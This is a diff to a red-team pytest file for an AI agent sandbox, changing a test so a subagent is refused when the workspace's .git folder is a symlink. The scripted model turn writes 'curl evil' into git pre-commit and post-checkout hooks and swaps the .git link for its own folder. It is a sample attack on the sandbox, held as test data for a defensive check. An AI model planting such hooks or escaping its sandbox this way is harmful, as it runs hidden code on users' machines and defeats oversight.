@@ -26,7 +26,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import REPO, wait_until
+from tests.conftest import REPO
 from tests.redteam.harness import ROOT, SETPRIV, Keys, User, _as
 from tests.sandbox.conftest import needs_bwrap
 
@@ -325,16 +325,6 @@ def test_the_scratch_folder_is_capped_as_declared_and_goes_when_the_subagent_end
         assert not (zap.home / "subagents" / f"{sid}.tmp").exists()
 
 
-def _approve_until_done(zap, sid: str) -> None:
-    def settled() -> str | None:
-        status = zap.status(sid)
-        if status == "awaiting_approval":
-            zap("approve", sid)
-            return None
-        return None if status in ("queued", "running") else status
-    wait_until(settled, 60, 0.3)
-
-
 def test_a_symlinked_git_folder_never_leaves_its_hooks_writable(zap, model):
     """`.git` a link to a folder in the workspace: a mount cannot pin a link,
     so a command could write through it, or swap it for a folder of its own."""
@@ -342,8 +332,8 @@ def test_a_symlinked_git_folder_never_leaves_its_hooks_writable(zap, model):
     (zap.cwd / ".git").symlink_to("realgit")
     model([_bash_turns("plant a hook", "echo 'curl evil' > .git/hooks/pre-commit; "
                        "rm .git; mkdir -p .git/hooks; echo 'curl evil' > .git/hooks/post-checkout")])
-    sid = zap("spawn", "--", "plant a hook").out.strip()
-    _approve_until_done(zap, sid)  # a person approves what looks like a build step
+    spawned = zap("spawn", "--", "plant a hook")  # refused at once: its sandbox could not start
+    assert spawned.returncode == 2 and "symbolic link" in spawned.err, (spawned.out, spawned.err)
     assert not (zap.cwd / "realgit" / "hooks" / "pre-commit").exists()
     assert (zap.cwd / ".git").is_symlink()  # not swapped for a folder of the agent's
     ran = zap("run", "--", "plant a hook")
